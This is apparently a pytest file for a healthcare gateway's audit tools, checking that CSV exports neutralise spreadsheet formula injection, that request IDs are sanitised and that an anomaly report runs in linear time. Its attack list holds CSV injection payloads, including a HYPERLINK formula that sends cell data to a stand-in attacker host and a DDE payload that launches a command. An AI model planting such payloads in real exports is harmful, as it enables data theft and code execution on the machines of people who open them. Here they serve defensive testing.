"""Attack table, the auditor's tools: spreadsheet formulas in the CSV export (OWASP CSV injection),
and an anomaly report whose cost grows linearly with one caller's records."""
from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.audit import anomalies
from gateway.audit.formats import neutralise, write_csv
from gateway.audit.model import AuditEntry

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(1)"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_prefixes_are_neutralised(value: str) -> None:
    assert neutralise(value) == "'" + value


def test_ordinary_values_are_untouched() -> None:
    for value in ("P81001", "direct_care", "9434765919", 42, None, "a=b"):
        assert neutralise(value) == value


async def test_attacker_controlled_values_reach_the_csv_export_as_text(client, gateway) -> None:  # type: ignore[no-untyped-def]
    from gateway.testing import auth_headers

    evil = ATTACKS[0]
    # A client's X-Request-ID is not taken as is (it would be a formula in every export) ...
    response = await client.get("/fhir/Patient?identifier=9434765919",
                                headers={**auth_headers(gateway.settings, "gp", "P81001", name=evil,
                                                        justification="@SUM(1)"), "X-Request-ID": evil})
    assert response.headers["x-request-id"] != evil
    # ... and whatever text does reach a record (a token's name, a justification) is written as text.
    out = io.StringIO()
    write_csv(gateway.audit.iter_entries(), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows, "the request was audited"
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert any(c == "'" + evil for c in cells)


@pytest.mark.parametrize("value", ['=cmd', "a\nb", "x" * 500, "\x00", "é"])
async def test_a_clients_request_id_is_bounded_and_sanitised(client, value) -> None:  # type: ignore[no-untyped-def]
    response = await client.get("/fhir/metadata", headers=[(b"X-Request-ID", value.encode("utf-8"))])
    rid = response.headers["x-request-id"]
    assert rid != value and len(rid) <= 128 and rid.isalnum()


async def test_a_well_formed_request_id_is_kept(client) -> None:  # type: ignore[no-untyped-def]
    response = await client.get("/fhir/metadata", headers={"X-Request-ID": "trace-42.a:b"})
    assert response.headers["x-request-id"] == "trace-42.a:b"


# -- anomalies --------------------------------------------------------------------------------------
T0 = datetime(2026, 11, 2, 10, tzinfo=UTC)


def _entry(seq: int, seconds: float, user: str = "snoop", patient: str = "p", outcome: str = "disclosed") -> AuditEntry:
    return AuditEntry(seq, T0 + timedelta(seconds=seconds), "", "", {
        "requester": {"user": user}, "outcome": outcome, "purpose": "direct_care",
        "patients": [{"nhs_number": patient}]})


def _one_callers_hour(n: int) -> list[AuditEntry]:
    """``n`` records of one caller inside one hour, about a few people (never anomalous): the window
    holds every record, the case that made the report quadratic."""
    return [_entry(i, i * 3600 / (n + 1), patient=f"p{i % 7}") for i in range(n)]


def _cost(n: int) -> float:
    entries = _one_callers_hour(n)
    start = time.perf_counter()
    assert anomalies.report(entries) == []
    return time.perf_counter() - start


def test_the_anomaly_report_is_linear_in_one_callers_records() -> None:
    _cost(500)  # warm up
    small, large = min(_cost(1000) for _ in range(3)), min(_cost(4000) for _ in range(3))
    # Linear: x4 records cost about x4 (n log n for the sort); quadratic would cost x16.
    assert large < 8 * small + 0.05, (small, large)
    assert large < 1.0, large  # 4,000 records took 5 s when each step re-read its whole window


def _reference_many_patients(entries: list[AuditEntry], max_patients: int, window: timedelta) -> list[tuple]:
    """The former definition, step for step (quadratic): the fast one must find exactly the same."""
    found = []
    by_user: dict = {}
    for e in sorted(entries, key=lambda e: (e.time, e.seq)):
        by_user.setdefault(e.record["requester"]["user"], []).append(e)
    for user, items in by_user.items():
        recent: list[AuditEntry] = []
        for e in items:
            recent.append(e)
            while e.time - recent[0].time > window:
                recent.pop(0)
            people = {p["nhs_number"] for r in recent for p in r.record["patients"]}
            if len(people) > max_patients:
                found.append((user, tuple(r.seq for r in recent)))
                recent = []
    return found


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 3), st.integers(0, 20_000), st.integers(0, 12)), max_size=120))
def test_the_linear_report_finds_what_the_old_one_did(rows) -> None:  # type: ignore[no-untyped-def]
    entries = [_entry(i, seconds, user=f"u{user}", patient=f"p{patient}") for i, (user, seconds, patient)
               in enumerate(rows)]
    window = timedelta(minutes=30)
    fast = [(a.user, a.seqs) for a in anomalies.many_patients(entries, max_patients=4, window=window)]
    assert sorted(fast) == sorted(_reference_many_patients(entries, 4, window))
